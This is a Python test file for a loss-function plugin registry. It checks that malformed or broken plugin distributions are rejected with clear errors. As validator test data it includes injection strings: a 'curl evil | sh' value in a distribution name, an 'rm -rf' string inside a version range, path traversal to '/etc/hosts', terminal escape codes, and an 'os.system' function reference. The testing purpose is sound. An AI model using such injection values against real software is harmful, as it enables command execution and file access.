"""A zoo of bad distributions: each has its own error, and does no harm to the others."""

import importlib
import json
import shutil
import sys
import time
from collections.abc import Callable
from typing import NamedTuple

import pytest

import lossreg
from lossreg import LossregError, MissingLibraryError, NotFoundError, ProviderError, WrongBaseClassError, cli
from lossreg.discovery.manifest import library

from ..fakes import transplant

GOOD = "from acme_base import Module\nclass {name}(Module): ...\n"
LOSS = {
    "target": "{module}:Bad",
    "summary": "A loss.",
    "parameters": {"type": "object", "properties": {}, "required": [], "additionalProperties": False},
}


def module(source: str) -> Callable:
    """Make a distribution whose entry point leads to a module of this source."""

    def install(site, name):
        site.module(f"zoo_{name}", source)
        site.distribution(name.replace("_", "-"), losses={f"{name}_loss": f"zoo_{name}:Bad"})

    return install


def manifest(change: Callable, provider: str | None = None, package: str | None = None) -> Callable:
    """Make a distribution whose manifest `change` makes of a good one: text, bytes or data."""

    def install(site, name):
        loss = LOSS | {"target": f"zoo_{name}:Bad"}
        text = change({"schema": 1, "losses": {f"{name}_loss": loss}}, loss)
        folder = site.package(f"zoo_{name}")
        (folder / "__init__.py").write_text(GOOD.format(name="Bad"))
        raw = text if isinstance(text, bytes) else (text if isinstance(text, str) else json.dumps(text)).encode()
        (folder / "lossreg.json").write_bytes(raw)
        site.distribution(name.replace("_", "-"), manifests={provider or name: package or f"zoo_{name}:lossreg.json"})

    return install


def with_library(**fields: object) -> Callable:
    """Make a manifest that describes another library."""
    return manifest(lambda data, loss: data | {"library": {"package": "zoo_lib", "distribution": "zoo-lib"} | fields})


def with_loss(**fields: object) -> Callable:
    """Make a manifest whose loss has these fields."""
    return manifest(lambda data, loss: data | {"losses": {next(iter(data["losses"])): loss | fields}})


def deep(levels: int) -> object:
    value: object = "x"
    for _ in range(levels):
        value = [value]
    return value


def a_circle(site, name):
    """Install two modules that import each other and register. Python removes both from sys.modules."""
    site.package(f"zoo_{name}")
    register = (
        "from acme_base import Module\nimport {table}\n@{table}.registry.register('{name}')\nclass {cls}(Module): ...\n"
    )
    one = register.format(table="zoo_table", name=f"{name}_loss", cls="Bad")
    two = register.format(table="zoo_table", name=f"{name}_other", cls="Other")
    site.module(f"zoo_{name}.one", f"{one}from zoo_{name}.two import Other\n")
    site.module(f"zoo_{name}.two", f"{two}from zoo_{name}.one import not_yet\n")
    site.distribution(
        name.replace("_", "-"), losses={f"{name}_loss": f"zoo_{name}.one:Bad", f"{name}_other": f"zoo_{name}.two:Other"}
    )


def missing_inside(site, name):
    """Install a library without one of its own dependencies."""
    site.module(f"lib_{name}", "import zoo_not_there")
    loss = LOSS | {"target": f"lib_{name}:Bad"}
    needs = {"package": f"lib_{name}", "distribution": "zoo-lib"}
    site.package(f"zoo_{name}", {"schema": 1, "library": needs, "losses": {f"{name}_loss": loss}})
    site.distribution(name.replace("_", "-"), manifests={name: f"zoo_{name}"})


class Broken(NamedTuple):
    """Listed; `get` raises this, after which the entry has this state."""

    install: Callable
    message: str
    error: type[LossregError] = ProviderError
    before: str = "discovered"
    after: str = "broken"


class Unread(NamedTuple):
    """Not listed; a failure with this message."""

    install: Callable
    message: str


BROKEN = {
    "import_error": Broken(module("raise ImportError('no GPU')"), "raised ImportError: no GPU"),
    "syntax": Broken(module("class Bad(:"), "raised SyntaxError: invalid syntax"),
    "exits": Broken(module("raise SystemExit(3)"), "raised SystemExit: 3"),
    "endless": Broken(module("def f(): f()\nf()"), "raised RecursionError: maximum recursion depth exceeded"),
    "wrong_base": Broken(
        module("class Bad: ..."), "expected a class derived from acme_base.Module, got", WrongBaseClassError
    ),
    "no_class": Broken(module("def Bad(): ..."), "expected a class derived from", WrongBaseClassError),
    "no_attribute": Broken(module(""), "raised AttributeError: module 'zoo_no_attribute' has no attribute 'Bad'"),
    "getattr": Broken(module("def __getattr__(name): raise MemoryError(name)"), "raised MemoryError: Bad"),
    "dependency": Broken(module("import zoo_not_there"), "ModuleNotFoundError: No module named 'zoo_not_there'"),
    "circle": Broken(a_circle, "cannot import name 'not_yet' from partially initialized module 'zoo_circle.one'"),
    "null_bytes": Broken(module("x = '\0'"), "source code"),
    "warns": Broken(module("import warnings\nwarnings.warn('old', DeprecationWarning)"), "DeprecationWarning: old"),
    "no_library": Broken(
        manifest(
            lambda data, loss: {
                "schema": 1,
                "library": {"package": "zoo_lib", "distribution": "zoo-lib", "versions": ">=1,<2"},
                "losses": {"no_library_loss": LOSS | {"target": "zoo_lib:Bad"}},
            }
        ),
        'no_library/no_library_loss needs zoo-lib, which is not installed; pip install "zoo-lib>=1,<2"',
        MissingLibraryError,
        "missing",
        "missing",
    ),
    "half_library": Broken(missing_inside, "raised ModuleNotFoundError: No module named 'zoo_not_there'"),
}
UNREAD = {
    "truncated": Unread(manifest(lambda data, loss: json.dumps(data)[:-9]), "is not JSON: Expecting"),
    "latin": Unread(manifest(lambda data, loss: b'{"schema": "\xe9"}'), "is not JSON: 'utf-8' codec can't decode"),
    "large": Unread(manifest(lambda data, loss: b" " * 50 * 2**20), "is too large; at most 4194304 bytes are read"),
    "deep": Unread(manifest(lambda data, loss: '{"schema": ' + "[" * 10**5), "is not JSON: maximum recursion depth"),
    "nested": Unread(manifest(lambda data, loss: data | {"x": deep(200)}), "is nested deeper than 64 levels"),
    "twice": Unread(
        manifest(lambda data, loss: '{"schema": 1, "losses": {"a": {}, "b": {}, "a": {}}}'),
        "is not JSON: duplicate key 'a'",
    ),
    "future": Unread(manifest(lambda data, loss: data | {"schema": "2.0"}), "has schema version '2.0', this lossreg"),
    "separator": Unread(
        manifest(lambda data, loss: data | {"losses": {"../a/b": loss}}),
        "loss '../a/b' is malformed: name must be a letter followed by letters",
    ),
    "control": Unread(
        manifest(lambda data, loss: data | {"losses": {"a\x1b[31m": loss}}), r"loss 'a\x1b[31m' is malformed: name must"
    ),
    "alias": Unread(with_loss(aliases=["a\nb"]), r"malformed: alias must be a letter followed by letters"),
    "tag": Unread(with_loss(tags=["a b"]), "malformed: tag must be a letter followed by letters"),
    "target": Unread(with_loss(target="../evil:Bad"), """malformed: target must be "module:qualname", got '../evil:"""),
    "locals": Unread(with_loss(target="zoo_locals:make.<locals>.Bad"), "zoo_locals:make.<locals>.Bad"),
    "keyword": Unread(with_loss(target="zoo_keyword:class"), "'zoo_keyword:class'"),
    "digit": Unread(with_loss(target="zoo_digit:A²"), "'zoo_digit:A²'"),
    "summary": Unread(with_loss(summary=5), "malformed: its summary must be text, got int"),
    "contract": Unread(with_loss(contract=[]), "malformed: its contract must be an object, got list"),
    "parameters": Unread(with_loss(parameters=[]), "malformed: its parameters must be an object, got list"),
    "parameter": Unread(
        with_loss(parameters={"properties": {"a": 5}}), "malformed: parameter 'a' schema must be an object, got int"
    ),
    "provider": Unread(manifest(lambda data, loss: data, provider="a/b"), "got 'a/b'; rename the entry point"),
    "escape": Unread(manifest(lambda data, loss: data, provider="a\x1b[31m"), r"got 'a\x1b[31m'; rename the entry"),
    "folder": Unread(
        manifest(lambda data, loss: data, package="zoo_folder:../zoo_deep/lossreg.json"),
        "a manifest must be a file in the package's own folder, got 'zoo_folder:../zoo_deep/lossreg.json'",
    ),
    "root": Unread(manifest(lambda data, loss: data, package="zoo_root:/etc/hosts"), "own folder, got 'zoo_root:/etc"),
    "null_byte": Unread(manifest(lambda data, loss: data, package="zoo\0:lossreg.json"), "a manifest must be in a"),
    "climbs": Unread(manifest(lambda data, loss: data, package="../zoo_deep"), "top-level package, got '../zoo_deep'"),
    "library": Unread(with_library(package="zoo.lib"), "'library.package' must be a top-level package"),
    "library_list": Unread(manifest(lambda data, loss: data | {"library": []}), "'library' must be {package, distr"),
    "library_main": Unread(with_library(package="__main__", versions="two"), "'library.versions' must be a range"),
    "library_shell": Unread(
        with_library(distribution='x"; curl evil | sh #'), "'library.distribution' must be a distribution's name, got"
    ),
    "library_keys": Unread(with_library(version="1"), "'library' must be {package, distribution, versions}"),
}


@pytest.fixture
def neighbour(site, monkeypatch):
    """A good loss, and `lossreg.losses` as in a new process."""
    site.module("zoo_good", GOOD.format(name="Good"))
    site.distribution("good", losses={"good_loss": "zoo_good:Good"})
    site.module("zoo_table", "from lossreg import losses as registry")

    def discovered():
        fresh = site.registry()
        transplant(monkeypatch, lossreg.losses, fresh)
        return lossreg.losses

    return discovered


def command(monkeypatch, capsys, *arguments):
    """Run a command, which must succeed, and return its output."""
    monkeypatch.setattr(sys, "argv", ["lossreg", *arguments])
    with pytest.raises(SystemExit) as stop:
        cli.main()
    assert stop.value.code == 0
    return capsys.readouterr()


def refuse(registry, name, specimen):
    """Check the state before and after, and the error of each look-up."""
    assert registry.entry(name).state == specimen.before
    for _ in range(2):
        with pytest.raises(specimen.error) as caught:
            registry.get(name)
        assert specimen.message in str(caught.value)
        assert registry.entry(name).state == specimen.after
        assert str(registry.entry(name).error) == str(caught.value)


def failure_of(registry, distribution):
    """Return the one failure of a distribution, as text."""
    (failure,) = (each for each in registry.failures if each.distribution == distribution.replace("_", "-"))
    return str(failure.error)


def assert_the_neighbour_works(registry, monkeypatch, capsys):
    """Check every way to look up, and the message for an unknown name."""
    assert {"good_loss", "dice"} <= {*registry.list()}
    assert registry.get("good_loss").__name__ == "Good"
    assert "good_loss" in registry.find("!overlap")
    assert "dice" in registry.filter_by_tag("overlap")
    assert registry.list_with_tags()["good_loss"] == []
    assert "\ngood_loss " in command(monkeypatch, capsys, "list").out
    with pytest.raises(NotFoundError, match="unknown loss 'good_los'; did you mean 'good_loss'"):
        registry.get("good_los")
    with pytest.raises(lossreg.InvalidConfigError, match="name: unknown loss 'good_los'; did you mean 'good_loss'"):
        lossreg.validate("good_los")
    assert lossreg.validate("good_loss").provider == "good"


@pytest.mark.parametrize("name", BROKEN)
def test_a_broken_loss_is_listed_and_raises_its_error_when_it_is_looked_up(site, neighbour, monkeypatch, capsys, name):
    """Its neighbour works before and after."""
    specimen = BROKEN[name]
    specimen.install(site, name)
    registry = neighbour()
    loss = f"{name}_loss"
    assert loss in registry.list()
    assert site.failures(registry) == {}
    printed = command(monkeypatch, capsys, "list").out
    assert (f"[{specimen.before}] A loss." in printed) == (specimen.before == "missing")
    assert not [module for module in sys.modules if module.startswith(("zoo_b", f"zoo_{name}"))]
    refuse(registry, loss, specimen)
    assert f"[{specimen.after}]" in command(monkeypatch, capsys, "list").out
    assert_the_neighbour_works(registry, monkeypatch, capsys)


@pytest.mark.parametrize("name", UNREAD)
def test_an_unreadable_declaration_is_a_failure_with_the_reason(site, neighbour, monkeypatch, capsys, name):
    """It is printed where losses are listed, and where a name is not found; in bounded length, without control."""
    UNREAD[name].install(site, name)
    registry = neighbour()
    assert UNREAD[name].message in failure_of(registry, name)
    assert f"{name}_loss" not in registry
    with pytest.raises(NotFoundError, match="not read: ") as caught:
        registry.get(f"{name}_loss")
    printed = command(monkeypatch, capsys, "list")
    for text in (str(caught.value), printed.out + printed.err):
        assert text.replace("\n", "").isprintable()
        assert len(str(caught.value)) < 1500
    assert "not read: " in printed.err
    assert_the_neighbour_works(registry, monkeypatch, capsys)


def test_two_providers_of_one_name(site, neighbour, monkeypatch, capsys):
    """The first keeps the name, and the failure names the second."""
    for name in ("one", "two"):
        loss = LOSS | {"target": f"zoo_{name}:Bad"}
        site.package(f"zoo_{name}", {"schema": 1, "losses": {"shared": loss}})
        site.distribution(name.replace("_", "-"), manifests={"shared_provider": f"zoo_{name}"})
    registry = neighbour()
    assert registry.entry("shared").distribution == "one"
    assert failure_of(registry, "two") == (
        "shared_provider/shared is declared by one (zoo_one:Bad) and by two (zoo_two:Bad);"
        " the first is kept. Rename one of the providers"
    )
    assert_the_neighbour_works(registry, monkeypatch, capsys)


def test_the_same_distribution_twice(site, neighbour, monkeypatch, capsys):
    """A broken copy behind a good one, and a copy of the good neighbour."""
    copy = site.root / "copy"
    for folder in ("good-1.0.dist-info",):
        shutil.copytree(site.root / folder, copy / folder)
    (copy / "good-1.0.dist-info" / "entry_points.txt").write_text("[lossreg.losses]\ngood_loss = \n")
    monkeypatch.setattr(sys, "path", [*sys.path, str(copy)])
    registry = neighbour()
    assert site.failures(registry) == {}
    assert_the_neighbour_works(registry, monkeypatch, capsys)


def test_a_package_removed_between_scan_and_load(site, neighbour, monkeypatch, capsys):
    """Its loss is broken. A removed entry point does not matter after the scan."""
    module("from acme_base import Module\nclass Bad(Module): ...")(site, "gone")
    module("from acme_base import Module\nclass Bad(Module): ...")(site, "kept")
    registry = neighbour()
    assert {"gone_loss", "kept_loss"} <= {*registry.list()}
    (site.root / "zoo_gone.py").unlink()
    for name in ("gone", "kept"):
        shutil.rmtree(site.root / f"{name}-1.0.dist-info")
    importlib.invalidate_caches()
    refuse(registry, "gone_loss", Broken(module(""), "ModuleNotFoundError: No module named 'zoo_gone'"))
    assert registry.get("kept_loss").__name__ == "Bad"
    assert_the_neighbour_works(registry, monkeypatch, capsys)


def test_a_distribution_of_control_characters(site, neighbour, monkeypatch, capsys):
    """Its name would be in every message about its losses."""
    site.raw_distribution("evil\x1b[31m", b"[lossreg.losses]\nevil_loss = zoo_evil:Evil\n")
    site.distribution("evil", losses={"other_loss": "zoo_evil:Evil"}, version="1\x1b[31m")
    registry = neighbour()
    found = [str(failure.error) for failure in registry.failures if "control characters" in str(failure.error)]
    assert len(found) == 2
    assert all(text.isprintable() for text in found)
    assert not {"evil_loss", "other_loss"} & {*registry.list()}
    assert_the_neighbour_works(registry, monkeypatch, capsys)


def test_both_modules_of_a_circle_are_broken(site, neighbour):
    """Python removes both from sys.modules, so that a class of either belongs to half a module."""
    a_circle(site, "circle")
    registry = neighbour()
    with pytest.raises(ProviderError, match="partially initialized"):
        registry.get("circle_loss")
    assert [registry.entry(f"circle_{each}").state for each in ("loss", "other")] == ["broken", "broken"]
    with pytest.raises(ProviderError, match="cannot import name 'not_yet'"):
        registry.get("circle_other")


def test_a_missing_library_is_named_before_anything_is_imported(site, neighbour):
    """With the command that installs it, also by `build`."""
    BROKEN["no_library"].install(site, "no_library")
    registry = neighbour()
    assert registry.entry("no_library_loss").reason == 'zoo-lib is not installed; pip install "zoo-lib>=1,<2"'
    assert "zoo_no_library" not in sys.modules
    with pytest.raises(MissingLibraryError) as caught:
        lossreg.build("no_library_loss")
    assert caught.value.distribution == "zoo-lib"
    assert isinstance(caught.value, ImportError)


def test_a_library_without_its_code_is_missing(site, neighbour):
    """Its metadata is left over from an installation that was removed; without metadata, its code is enough."""
    site.distribution("zoo-lib", version="1.5")
    with_library()(site, "gone")
    assert neighbour().entry("gone_loss").state == "missing"
    site.module("zoo_there")
    with_library(package="zoo_there", distribution="zoo-there")(site, "here")
    assert neighbour().entry("here_loss").state == "discovered"


@pytest.mark.parametrize("package", ["__main__", "zoo_made_by_hand"])
def test_a_library_without_a_location_is_missing(site, neighbour, monkeypatch, package):
    """The import system raises for a module without a spec."""
    made = type(sys)("zoo_made_by_hand")
    made.__spec__ = None
    monkeypatch.setitem(sys.modules, "zoo_made_by_hand", made)
    monkeypatch.setattr(sys.modules["__main__"], "__spec__", None)
    with_library(package=package)(site, "lib")
    assert neighbour().entry("lib_loss").state == "missing"


@pytest.mark.parametrize(
    "versions, read",
    [
        ("", True),
        (">=1.5,<2", True),
        (" >= 1.5 , != 1.6.* , ~=1.5.0", True),
        ("==2.0rc1,<3.post1,>1.dev0", True),
        ("two", False),
        (">=1.*", False),
        ("~=1", False),
        (">=1,", False),
        ('>=1"; rm -rf x; "', False),
        ("=>1", False),
        (">=1\u0662", False),
    ],
)
def test_versions_of_a_library_are_those_that_packaging_reads(versions, read):
    """An accepted range never fails later, when the loss is looked up."""
    from packaging.specifiers import SpecifierSet

    data = {"library": {"package": "zoo_lib", "distribution": "zoo-lib", "versions": versions}}
    if not read:
        with pytest.raises(lossreg.ManifestError, match=r"'library.versions' must be a range of versions, such as"):
            library(data, "acme")
        return
    found = library(data, "acme")
    assert found is not None
    assert str(SpecifierSet(found.versions)).count(",") == versions.count(",")


@pytest.mark.parametrize(
    "schema, message",
    [
        ({"type": ["number"]}, "parameter 'a' type must be text, got list"),
        ({"$ref": 5}, "parameter 'a' $ref must be text, got int"),
        ({"description": 5}, "parameter 'a' description must be text, got int"),
        ({"enum": "xy"}, "parameter 'a' enum must be a list, got str"),
        ({"anyOf": 5}, "parameter 'a' anyOf must be a list, got int"),
        ({"anyOf": [5]}, "parameter 'a' schema must be an object, got int"),
        ({"prefixItems": [{"type": 5}]}, "parameter 'a' type must be text, got int"),
        ({"items": []}, "parameter 'a' items must be an object, got list"),
        ({"additionalProperties": 5}, "parameter 'a' schema must be an object, got int"),
        ({"minimum": "0"}, "parameter 'a' minimum must be a number, got str"),
        ({"minItems": True}, "parameter 'a' minItems must be an integer, got bool"),
        ({"functions": {"relu": 5}}, "parameter 'a': function relu must be text, got int"),
        ({"$ref": "#/$defs/loss", "properties": {"w": 5}}, "parameter 'w' schema must be an object, got int"),
        ({"propertyNames": 5}, "parameter 'a' propertyNames must be an object, got int"),
        ({"type": "float"}, "parameter 'a' type must be one of null, boolean, object, array, number, integer, string,"),
        ({"anyOf": []}, "parameter 'a' anyOf must be a list that is not empty, got []"),
        ({"prefixItems": []}, "parameter 'a' prefixItems must be a list that is not empty, got []"),
        ({"enum": []}, "parameter 'a' enum must be a list that is not empty, got []"),
        ({"$ref": "#/$defs/3d"}, "parameter 'a' $ref must be #/$defs/loss, #/$defs/tensor or #/$defs/ with the tag of"),
        ({"$ref": "https://evil/x.json"}, "parameter 'a' $ref must be #/$defs/loss, #/$defs/tensor or #/$defs/ with"),
        ({"pattern": "("}, "parameter 'a' pattern must be a regular expression, got '('"),
        ({"multipleOf": 0}, "parameter 'a' multipleOf must be above 0, got 0"),
        ({"minItems": -1}, "parameter 'a' minItems must be 0 or more, got -1"),
        ({"maxProperties": -1}, "parameter 'a' maxProperties must be 0 or more, got -1"),
        ({"required": [5]}, "parameter 'a' required must be a list of text, got [5]"),
        ({"required": ["b"]}, "parameter 'a' required has 'b', which is not in properties"),
        ({"functions": {"relu": "os.system"}}, """parameter 'a': function relu must be "module:qualname", got 'os"""),
        (
            {"$ref": "#/$defs/loss", "properties": {"class": {}}},
            "parameter 'class' must have a name of Python that is no keyword; rename it",
        ),
        (
            {"items": {"$ref": "#/$defs/loss", "properties": {"a: int\nimport os": {}}}},
            "parameter 'a: int\\nimport os' must have a name of Python that is no keyword; rename it",
        ),
    ],
)
def test_a_malformed_schema_is_a_failure(site, schema, message):
    """Of one loss; otherwise it would break the JSON Schema of all losses."""
    good = LOSS | {"target": "zoo_schema:Good"}
    bad = good | {"parameters": {"properties": {"a": schema}}}
    site.package("zoo_schema", {"schema": 1, "losses": {"schema_loss": good, "bad_loss": bad}})
    site.distribution("schema", manifests={"schema": "zoo_schema"})
    registry = site.registry()
    assert failure_of(registry, "schema").startswith(f"zoo_schema: loss 'bad_loss' is malformed: {message}")
    assert site.names(registry) == ["schema_loss"]


@pytest.mark.parametrize("name", ["class", "a b", "", "1a", "a-b", "a\n"])
def test_a_parameter_has_a_name_that_python_takes(site, name):
    """No constructor has another, and a stub could not be written."""
    site.package("zoo_name", {"schema": 1, "losses": {"name_loss": LOSS | {"target": "zoo_name:Bad"}}})
    path = site.root / "zoo_name" / "lossreg.json"
    path.write_text(path.read_text().replace('"properties": {}', f'"properties": {{{json.dumps(name)}: {{}}}}'))
    site.distribution("name", manifests={"name": "zoo_name"})
    message = f"malformed: parameter {name!r} must have a name of Python that is no keyword; rename it"
    assert failure_of(site.registry(), "name") == f"zoo_name: loss 'name_loss' is {message}"


def test_unusual_schemas_are_read(site):
    """A part by its tag, keys of a mapping that are no names, and a pattern of another engine than Python's."""
    properties = {
        "a": {"$ref": "#/$defs/my-part.x", "properties": {"weight": {"type": "number"}}, "required": ["weight"]},
        "b": {"type": "object", "properties": {"a b": {"type": "null"}}, "propertyNames": {"pattern": r"^\p{L}+$"}},
        "maß": {"type": "string", "pattern": r"^[\]\d]+(?:x|y)?$", "minLength": 0},
        "d": {"prefixItems": [{"multipleOf": 0.5}], "minItems": 1, "maxItems": 1},
        "e": {"enum": ["relu"], "functions": {"relu": "torch.nn.functional:relu"}},
    }
    loss = LOSS | {"target": "zoo_schema:Good", "parameters": {"properties": properties, "required": ["maß"]}}
    site.package("zoo_schema", {"schema": 1, "losses": {"schema_loss": loss}})
    site.distribution("schema", manifests={"schema": "zoo_schema"})
    assert site.registry().entry("schema_loss").metadata["parameters"]["properties"] == properties


@pytest.mark.parametrize(
    "ways, message",
    [
        ([], "its implementations must be an object, got list"),
        ({"a": "cuda"}, "each implementation must be an object, got str"),
        ({"a": {"device": 5}}, "an implementation's device must be text, got int"),
        ({"a": {"package": "zoo.inner"}}, "an implementation's package must be a top-level one, got 'zoo.inner'"),
    ],
)
def test_malformed_implementations_are_a_failure(site, ways, message):
    """To find a package within another, Python imports the other."""
    with_loss(contract={"implementations": ways})(site, "ways")
    assert failure_of(site.registry(), "ways") == f"zoo_ways: loss 'ways_loss' is malformed: {message}"


def test_two_hundred_at_once(site, neighbour, monkeypatch, capsys):
    """Every specimen several times, among good ones: each has its own error, all good ones load, in bounded time."""
    specimens = {f"{name}{number}": each for number in range(4) for name, each in (BROKEN | UNREAD).items()}
    for name, specimen in specimens.items():
        if not name.startswith(("circle", "no_library", "large")):  # with names of their own, or slow to write
            specimen.install(site, name)
    installed = len(site.distributions)
    for number in range(200 - installed):
        site.module(f"zoo_good{number}", GOOD.format(name="Good"))
        site.distribution(f"good-{number}", losses={f"good{number}": f"zoo_good{number}:Good"})
    assert len(site.distributions) == 200
    start = time.monotonic()
    registry = neighbour()
    names = site.names(registry)
    assert len([name for name in names if name.startswith("good")]) == 200 - installed + 1
    for name in names:
        known = specimens.get(name.removesuffix("_loss"))
        if known is None:
            assert registry.get(name).__name__ == "Good"
        else:
            with pytest.raises(known.error) as caught:
                registry.get(name)
            assert known.message.split("zoo")[0].split(" of ")[0] in str(caught.value)
    failed = {str(failure.distribution).replace("-", "_"): str(failure.error) for failure in registry.failures}
    for name in failed.keys() & specimens.keys():
        assert specimens[name].message.split("zoo")[0] in failed[name]
    assert len(failed.keys() & specimens.keys()) == 4 * (len(UNREAD) - 1)
    with pytest.raises(NotFoundError, match=r"and \d+ more; `lossreg doctor` shows all") as caught:
        registry.get("good_los")
    assert len(str(caught.value)) < 15_000
    assert_the_neighbour_works(registry, monkeypatch, capsys)
    assert "good_loss" in str(lossreg.json_schema())
    assert time.monotonic() - start < 30
